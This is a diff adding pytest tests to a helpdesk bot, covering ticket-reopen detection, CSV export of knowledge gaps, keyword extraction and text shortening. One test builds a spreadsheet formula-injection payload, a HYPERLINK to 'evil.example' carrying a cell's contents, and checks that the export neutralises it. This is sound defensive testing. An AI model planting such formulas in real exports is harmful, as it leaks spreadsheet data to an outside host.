@@ -24,6 +24,9 @@ ROW = {"answered_at": 1000.0, "action": "auto_send", "draft": "Open Settings, th
 
 @pytest.mark.parametrize("messages, now, reopened", [
     ((("customer", "thanks, but it did not work", True, 2000.0),), 3000.0, True),
+    ((("customer", "Can I talk to a person?", True, 2000.0),), 3000.0, True),
+    ((("customer", "Great, and how do I export the invoices as CSV?", True, 2000.0),), 3000.0, None),  # a next question
+    ((("customer", "Thanks, that worked!", True, 2000.0),), 1000.0 + REOPEN_WINDOW_SECONDS + 1, False),
     ((("customer", "q", True, 900.0),), 1000.0 + REOPEN_WINDOW_SECONDS + 1, False),  # before the answer
     ((("customer", "late", True, 1000.0 + REOPEN_WINDOW_SECONDS + 5),), 1000.0 + REOPEN_WINDOW_SECONDS + 10, False),
     ((("customer", "private?", False, 2000.0),), 3000.0, None),  # not public: not a reply
@@ -155,3 +158,45 @@ def test_topics_and_a_knowledge_gap_from_the_ledger(tmp_path, embedder):
     [gap] = knowledge_gaps(ledger, load_topics(ledger))
     assert gap.article["article_id"] == "900"
     assert (gap.tickets_before, gap.deflection_before, gap.tickets_after, gap.deflection_after) == (3, 0.0, 1, 1.0)
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_cells_a_spreadsheet_would_run_as_a_formula_are_kept_as_text(start):
+    import csv
+    import io
+
+    from helpdesk_bot.topics import KnowledgeGap, Topic
+
+    hostile = f'{start}HYPERLINK("https://evil.example/?"&A1,"Click")'
+    gap = KnowledgeGap(topic=Topic(id=1, label=hostile, keywords=[]), examples=[hostile], agent_answers=[hostile],
+                       title=hostile, outline=["Open Settings, then Billing."])
+    header, row = list(csv.reader(io.StringIO(gaps_csv([gap]))))
+    cells = dict(zip(header, row))
+    for column in ("topic", "suggested_title", "example_questions", "agent_answers"):
+        assert cells[column] == "'" + hostile, column
+    assert cells["outline"] == "• Open Settings, then Billing."
+    assert cells["tickets"] == "0"
+
+
+def test_topic_keywords_are_whole_words_not_stems():
+    from helpdesk_bot.topics import distinctive_terms
+
+    groups = [["Two-factor authentication fails for our company", "Authentication codes for companies",
+               "Company-wide authentication with Okta"],
+              ["Download invoices as PDF", "Where are my invoices?"]]
+    authentication, invoices = distinctive_terms(groups)
+    assert "authentication" in authentication and "company" in authentication
+    assert not {"authent", "compani"} & set(authentication)
+    assert "invoices" in invoices
+
+
+@pytest.mark.parametrize("text, limit, cut", [
+    ("Where can I download all of our invoices as PDF files", 30, "Where can I download all of…"),
+    ("Short question", 30, "Short question"),
+    ("Supercalifragilisticexpialidocious", 10, "Supercali…"),  # one long word: cut inside it
+    ("Export, then import", 9, "Export…"),  # no dangling comma
+])
+def test_text_is_cut_at_a_word_boundary_with_an_ellipsis(text, limit, cut):
+    from helpdesk_bot.text import shorten
+
+    assert shorten(text, limit) == cut and len(shorten(text, limit)) <= limit
